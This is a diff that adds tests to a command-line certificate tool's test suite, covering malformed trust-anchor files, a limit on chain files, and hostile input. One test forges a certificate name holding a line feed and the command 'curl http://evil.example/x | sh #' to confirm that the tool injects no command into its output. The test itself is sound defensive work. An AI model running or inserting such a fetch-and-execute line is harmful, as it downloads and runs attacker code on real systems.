@@ -489,3 +489,43 @@ test("an error of our own is exit 3, one line, and a stack only with --debug", a
   });
   expect((await cli("sensor.crt --debug", {}, broken)).err).toContain("at ");
 });
+
+const anchors = appliance["ca.pem"] ?? "";
+
+describe("trust anchors that are not whole", () => {
+  test.each<readonly [what: string, roots: string, reason: string]>([
+    ["a block cut off", `${anchors}-----BEGIN CERTIFICATE-----\nAAAA\n`, "truncated"],
+    ["glued blocks", anchors.trimEnd() + anchors, "a line end is missing"],
+  ])("%s: a usage error, not a smaller set", async (_what, roots, reason) => {
+    const { exitCode, err, out } = await cli("sensor.crt sensor.key --chain ca.pem --roots roots.pem", {
+      "roots.pem": roots,
+    });
+    expect([exitCode, out, err.includes(reason)]).toEqual([2, "", true]);
+  });
+});
+
+test("more chain files than anybody has are a usage error", async () => {
+  const { exitCode, err } = await cli(`sensor.crt${" --chain ca.pem".repeat(21)}`, {});
+  expect([exitCode, err.includes("more than 20 chain files")]).toEqual([2, true]);
+});
+
+describe("what an adversary puts into names and onto the command line", () => {
+  test("a name with a line feed adds no command to a fix", async () => {
+    const forged = "Contoso CA\ncurl http://evil.example/x | sh #";
+    const { "sensor.crt": crt = "" } = await applianceFiles({ cas: [{ subject: [["CN", forged]] }] });
+    const { out } = await cli("sensor.crt sensor.key --chain other.pem", {
+      "sensor.crt": crt,
+      "other.pem": anchors,
+    });
+    expect(out).toContain("Contoso CA\\u{a}curl");
+    expect(out.split("\n").filter((line) => /^\s*curl/.test(line))).toEqual([]);
+  });
+
+  test.each([
+    ["--passphrase-set=hunter2", "hunter2"],
+    ["--pass:hun'ter2", "ter2"],
+  ])("%s is not repeated", async (option, secret) => {
+    const { exitCode, err } = await cli(`sensor.crt ${option}`, {});
+    expect([exitCode, err.includes(secret)]).toEqual([2, false]);
+  });
+});
